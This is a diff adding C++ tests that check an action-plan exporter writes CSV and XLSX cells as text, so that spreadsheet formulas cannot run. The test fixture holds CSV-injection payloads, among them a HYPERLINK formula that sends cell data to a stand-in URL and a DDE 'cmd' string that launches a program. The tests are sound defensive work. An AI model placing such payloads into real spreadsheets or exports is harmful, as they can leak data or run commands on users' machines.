@@ -1,6 +1,7 @@
 #include <catch2/catch.hpp>
 
 #include "exports/demo_project.hpp"
+#include "exports/csv_text.hpp"
 #include "exports/plan/plan_files.hpp"
 #include "tests/support/test_support.hpp"
 
@@ -167,4 +168,152 @@ TEST_CASE("A plan file that cannot be written is an io error and leaves no parti
     CHECK(plan_file_kind("x.XLSX") == PlanFileKind::xlsx);
     CHECK(plan_file_kind("x.ics") == PlanFileKind::ics);
     CHECK_FALSE(plan_file_kind("x.pdf"));
+}
+
+namespace {
+
+// RFC 4180 fields of a CSV text (after the byte-order mark): quotes, doubled quotes and line
+// breaks inside quotes, as a spreadsheet program reads them.
+std::vector<std::vector<std::string>> read_csv(const std::string& text, char separator) {
+    std::vector<std::vector<std::string>> rows(1);
+    std::string field;
+    bool quoted = false;
+    for (std::size_t i = 0; i < text.size(); ++i) {
+        const char c = text[i];
+        if (quoted) {
+            if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') field += text[++i];
+            else if (c == '"') quoted = false;
+            else field += c;
+        } else if (c == '"') {
+            REQUIRE(field.empty());  // a quote only ever opens a field
+            quoted = true;
+        } else if (c == separator) {
+            rows.back().push_back(field);
+            field.clear();
+        } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
+            rows.back().push_back(field);
+            field.clear();
+            rows.emplace_back();
+            ++i;
+        } else {
+            REQUIRE(c != '\r');  // a bare carriage return outside quotes would start a row in some readers
+            field += c;
+        }
+    }
+    REQUIRE(field.empty());
+    rows.pop_back();  // after the last CR LF
+    return rows;
+}
+
+// A copy of the demo whose first actions have every text field beginning with one of the
+// characters a spreadsheet program takes for the start of a formula.
+struct HostilePlan {
+    TempDir dir;
+    std::unique_ptr<Project> project;
+    Id cycle = 0;
+    static inline const std::vector<std::string> starts = {"=", "+", "-", "@", "\t", "\r"};
+
+    HostilePlan() {
+        demo().save_copy(dir.file("hostile.assessa"));
+        project = Project::open(dir.file("hostile.assessa"));
+        cycle = project->current_cycle().id;
+        auto actions = project->actions(cycle);
+        REQUIRE(actions.size() >= starts.size());
+        std::set<Id> renamed;
+        for (std::size_t i = 0; i < starts.size(); ++i) {
+            const std::string& s = starts[i];
+            ImprovementAction a = actions[i];
+            a.title = s + "HYPERLINK(\"http://example.test/?q=\"&A1,\"Click\") Core indicator set";
+            a.description = s + "cmd|' /C calc'!A0 note";
+            a.expected_result = s + "1+1 result";
+            a.responsible = s + "Ona Petraitienė";
+            a.indicator = s + "SUM(A1:A9)";
+            a.target = s + "10";
+            a.effort = s + "20 person-days";
+            a.cost = s + "3 000 EUR";
+            if (!a.milestones.empty()) a.milestones[0].title = s + "milestone";
+            project->update_action(a);
+            if (a.lead_department && s != "\t" && s != "\r" && renamed.insert(*a.lead_department).second) {
+                // (codes are trimmed when stored)
+                const auto departments = project->departments();
+                Department d = *std::find_if(departments.begin(), departments.end(),
+                                             [&](const Department& x) { return x.id == *a.lead_department; });
+                d.code = s + d.code;
+                d.name = s + d.name;
+                project->update_department(d);
+            }
+        }
+    }
+};
+
+}  // namespace
+
+TEST_CASE("CSV cells that a spreadsheet would run as formulas are written as text, in every language",
+          "[plan][export]") {
+    HostilePlan h;
+    const auto actions = h.project->actions(h.cycle);
+    std::map<Id, std::string> codes;
+    for (const auto& d : h.project->departments()) codes[d.id] = d.code;
+    CHECK(std::count_if(codes.begin(), codes.end(), [](const auto& c) { return c.second[0] == '='; }) == 1);
+    for (const std::string lang : {"en", "lt", "zh"}) {
+        const Translator t = Translator::for_language(lang);
+        const char separator = lang == "lt" ? ';' : ',';
+        const std::string text = plan_csv_text(*h.project, h.cycle, t);
+        const auto rows = read_csv(text.substr(3), separator);
+        REQUIRE(rows.size() == actions.size() + 1);
+        const auto& header = rows[0];
+        const auto column = [&](const std::string& heading) {
+            const auto it = std::find(header.begin(), header.end(), std::string(t.tr(heading.c_str())));
+            REQUIRE(it != header.end());
+            return static_cast<std::size_t>(it - header.begin());
+        };
+        for (std::size_t i = 0; i < HostilePlan::starts.size(); ++i) {
+            INFO(lang << " action " << i);
+            const auto& row = rows.at(i + 1);
+            const ImprovementAction& a = actions[i];
+            const std::string s = HostilePlan::starts[i];
+            // Each text cell reads back as the text, with the apostrophe that makes it text.
+            CHECK(row.at(column("Title")) == "'" + a.title);
+            CHECK(row.at(column("Responsible")) == "'" + a.responsible);
+            CHECK(row.at(column("Indicator")) == "'" + a.indicator);
+            CHECK(row.at(column("Target")) == "'" + a.target);
+            CHECK(row.at(column("Effort")) == "'" + a.effort);
+            CHECK(row.at(column("Cost")) == "'" + a.cost);
+            CHECK(row.at(column("Expected result")) == "'" + a.expected_result);
+            CHECK(row.at(column("Description")) == "'" + a.description);
+            // The milestones cell begins with a date, so nothing in it can start a formula.
+            if (!a.milestones.empty())
+                CHECK(row.at(column("Milestones")) ==
+                      neutralised_csv_text(a.milestones[0].due_on + " " + s + "milestone") +
+                          row.at(column("Milestones")).substr(a.milestones[0].due_on.size() + 1 + s.size() + 9));
+            if (a.lead_department) {
+                CHECK(row.at(column("Leading department (V)")) == neutralised_csv_text(codes.at(*a.lead_department)));
+            }
+            // Numbers and dates stay numbers and dates.
+            CHECK(row.at(column("Priority")) == std::to_string(i + 1));
+            CHECK(row.at(column("Impact")) == std::to_string(a.impact));
+            CHECK(row.at(column("Progress %")) == std::to_string(a.progress));
+            CHECK(row.at(column("Start")) == a.starts_on);
+            CHECK(row.at(column("Due")) == a.due_on);
+        }
+        // No cell at all begins with a formula character.
+        for (const auto& row : rows)
+            for (const auto& cell : row)
+                CHECK((cell.empty() || std::string("=+@\t\r").find(cell[0]) == std::string::npos));
+    }
+}
+
+TEST_CASE("XLSX text is always a string cell, never a formula", "[plan][export]") {
+    HostilePlan h;
+    const auto actions = h.project->actions(h.cycle);
+    const std::string file = h.dir.file("actions.xlsx");
+    write_plan_xlsx(*h.project, h.cycle, file, Translator::for_language("en"));
+    for (const char* sheet : {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"}) {
+        const std::string xml = unzip(file, sheet);
+        REQUIRE(xml.find("<sheetData") != std::string::npos);
+        CHECK(xml.find("<f>") == std::string::npos);
+        CHECK(xml.find("<f ") == std::string::npos);
+    }
+    const auto rows = read_sheet(file, 1);
+    CHECK(rows.at(1).at(2) == actions[0].title);  // as typed, a shared string
 }
